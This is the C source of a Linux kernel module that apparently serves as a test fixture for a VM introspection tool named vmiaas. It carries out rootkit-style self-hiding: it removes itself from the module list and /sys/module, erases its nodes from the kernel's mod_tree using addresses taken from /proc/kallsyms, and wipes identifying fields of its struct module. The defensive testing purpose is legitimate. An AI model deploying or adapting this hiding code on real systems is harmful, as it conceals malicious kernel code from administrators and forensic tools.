// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_hidemod: module self-hiding, for the integrity tests.
 * Takes this module off the module list (lsmod, /proc/modules) and its
 * kobject out of /sys/module, as rootkits do: list_del_rcu() of
 * THIS_MODULE->list and kobject_del() of THIS_MODULE->mkobj.kobj. It
 * stays in the kernel's module address tree (mod_tree), which is what
 * vmiaas compares the list with.
 *
 * mode=tree also erases the module's nodes from mod_tree, so that
 * __module_address() no longer knows it either (what a rootkit does to
 * hide its code from stack traces and kallsyms lookups): then only its
 * memory is left, which vmiaas carves for a struct module. mod_tree and
 * module_mutex are not exported: their addresses come from
 * /proc/kallsyms (modtree=0x..., modmutex=0x...). struct mod_tree_root
 * starts with its latch_tree_root, and latch_tree_erase() is inline, so
 * the erase is the kernel's own, under module_mutex like its callers.
 * Only the core nodes are erased: the init ones are do_init_module()'s.
 *
 * mode=wipe does what mode=tree does, then wipes what carving recognizes
 * a struct module by: its name, its list pointers and mkobj.mod (nothing
 * uses them once the module is hidden). Only the module's memory is left,
 * in vmap areas of the module range that no record of the kernel owns.
 *
 * The hiding runs from a work item once the module is live, so that
 * do_init_module() (which sends the kobject's ADD uevent after init)
 * is done with it.
 *
 * There is no exit function: a hidden module cannot be found by
 * delete_module() anyway, and the kobject cannot be put back. The module
 * stays until the guest is rebooted; the tests load it last.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/delay.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/string.h>
#include <linux/workqueue.h>

static char *mode = "list";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "list: off the list and sysfs; tree: also off mod_tree; wipe: also wipe the struct module");

static unsigned long modtree;
module_param(modtree, ulong, 0444);
MODULE_PARM_DESC(modtree, "address of mod_tree (from /proc/kallsyms)");

static unsigned long modmutex;
module_param(modmutex, ulong, 0444);
MODULE_PARM_DESC(modmutex, "address of module_mutex (from /proc/kallsyms)");

static void erase_from_tree(void)
{
	struct latch_tree_root *root = (struct latch_tree_root *)modtree;
#ifdef for_each_mod_mem_type	/* 6.4+: one allocation per type */
	for_each_mod_mem_type(type) {
		if (!mod_mem_type_is_init(type) && THIS_MODULE->mem[type].size)
			latch_tree_erase(&THIS_MODULE->mem[type].mtn.node,
					 root, NULL);
	}
#else
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, root, NULL);
#endif
}

static void hide_fn(struct work_struct *work)
{
	struct mutex *lock = (struct mutex *)modmutex;
	bool wipe = !strcmp(mode, "wipe");
	bool tree = wipe || !strcmp(mode, "tree");
	int i;

	for (i = 0; i < 100 && READ_ONCE(THIS_MODULE->state) != MODULE_STATE_LIVE; i++)
		msleep(20);
	if (tree)
		mutex_lock(lock);
	list_del_rcu(&THIS_MODULE->list);
	if (tree)
		erase_from_tree();
	if (tree)
		mutex_unlock(lock);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("hidden from the module list and /sys/module%s\n",
		tree ? " and mod_tree" : "");
	if (!wipe)
		return;
	memset(THIS_MODULE->name, 0, sizeof(THIS_MODULE->name));
	THIS_MODULE->list.next = NULL;
	THIS_MODULE->list.prev = NULL;
	THIS_MODULE->mkobj.mod = NULL;
	pr_info("struct module wiped\n");
}

static DECLARE_WORK(hide_work, hide_fn);

static int __init vmiaas_attack_hidemod_init(void)
{
	if (strcmp(mode, "list") &&
	    ((strcmp(mode, "tree") && strcmp(mode, "wipe")) || !modtree ||
	     !modmutex))
		return -EINVAL;
	schedule_work(&hide_work);
	return 0;
}

module_init(vmiaas_attack_hidemod_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: a module hiding itself (list, sysfs, mod_tree, its struct module)");
